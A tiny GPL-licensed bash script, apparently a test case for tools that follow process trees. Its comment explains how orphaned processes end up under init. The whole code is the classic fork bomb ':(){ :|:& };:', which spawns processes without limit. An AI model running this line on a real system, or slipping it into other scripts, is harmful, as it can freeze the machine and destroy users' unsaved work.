#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-only
#
# The one that everybody knows. It breaks whoever follows live parents: each
# process waits for nobody and exits, so that its children belong to init.
#
#	bash ─┬─ (bash) ─┬─ (bash) …		() has exited
#	      │          └─ bash
#	      └─ (bash) ─── bash …
:(){ :|:& };:
